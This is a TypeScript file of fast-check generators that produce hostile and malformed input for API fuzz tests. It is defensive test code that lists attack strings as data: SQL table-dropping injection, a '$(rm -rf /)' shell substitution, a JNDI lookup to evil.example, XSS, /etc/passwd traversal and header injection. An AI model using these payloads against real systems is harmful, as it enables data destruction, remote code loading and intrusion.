/** fast-check generators of hostile input, shared by the fuzz tests. */
import fc from 'fast-check';
import { z } from 'zod';

/** Strings an attacker would try in any field. */
export const injectionStrings = [
  "'; DROP TABLE svc_accounts; --",
  "' OR '1'='1",
  '$(rm -rf /)',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '{{7*7}}',
  '%00%0d%0aSet-Cookie: x=1',
  '\u202eevil\u202c',
  '🤖'.repeat(40),
  'Z̷̧̛͓a̵l̴g̶o̸',
  '\uFEFF',
  'a'.repeat(5_000),
];

/** Values of every JSON type, hostile ones included (huge, deep, unicode edge cases). */
export const hostileByType = {
  string: fc.oneof(fc.constantFrom(...injectionStrings), fc.string({ unit: 'grapheme', maxLength: 300 }), fc.constant('x'.repeat(200_000))),
  number: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(-1, 0, 1e308, -1e308, 2 ** 53 + 1)),
  boolean: fc.boolean(),
  null: fc.constant(null),
  array: fc.oneof(fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 20 }), fc.constant(Array.from({ length: 20_000 }, () => 1))),
  object: fc.oneof(
    fc.dictionary(fc.string({ maxLength: 20 }), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 15 }),
    fc.constant(Array.from({ length: 60 }).reduce<unknown>((inner) => ({ a: inner }), 1)),
  ),
} as const;
type JsonType = keyof typeof hostileByType;
const jsonTypes = Object.keys(hostileByType) as JsonType[];

interface PropertySchema {
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  anyOf?: PropertySchema[];
  maxLength?: number;
}

/** The JSON types a schema property accepts (from zod's JSON Schema); empty when it says nothing. */
function acceptedTypes(property: PropertySchema): Set<string> {
  const types = new Set<string>();
  const visit = (p: PropertySchema) => {
    if (p.anyOf) p.anyOf.forEach(visit);
    for (const t of [p.type ?? []].flat()) types.add(t === 'integer' ? 'number' : t);
  };
  visit(property);
  return types;
}

/**
 * For each top-level field of a request schema: values it can never accept (a JSON type outside
 * its own, or, for UUID fields, strings that are not UUIDs). Fields whose schema states no type
 * (custom checks) get non-strings.
 */
export function invalidValuesFor(schema: z.ZodType): Map<string, fc.Arbitrary<unknown>> {
  const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as { properties?: Record<string, PropertySchema> };
  const out = new Map<string, fc.Arbitrary<unknown>>();
  for (const [field, property] of Object.entries(json.properties ?? {})) {
    const accepted = acceptedTypes(property);
    const wrongTypes = jsonTypes.filter((t) => (accepted.size ? !accepted.has(t) : t !== 'string'));
    const options = wrongTypes.map((t) => hostileByType[t] as fc.Arbitrary<unknown>);
    if (property.format === 'uuid') options.push(fc.constantFrom(...injectionStrings, '', 'not-a-uuid'));
    if (options.length) out.set(field, fc.oneof(...options));
  }
  return out;
}

/** Raw bodies that are not a usable JSON object. */
export const malformedBodies = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":1,}',
    "{'a':1}",
    '{"a":NaN}',
    '{"a":1}/*c*/',
    '\uFEFF{}x',
    'null',
    '[]',
    '"text"',
    '42',
    'true',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
  ),
  fc.string({ maxLength: 200 }).filter((s) => {
    try {
      const v: unknown = JSON.parse(s);
      return v === null || typeof v !== 'object' || Array.isArray(v);
    } catch {
      return true;
    }
  }),
  fc.constant(`${'['.repeat(5_000)}${']'.repeat(5_000)}`),
  fc.constant(`{"a":${'{"b":'.repeat(100)}1${'}'.repeat(100)}}`),
  fc.constant(`{"a":"${'x'.repeat(1_100_000)}"}`),
  fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
);
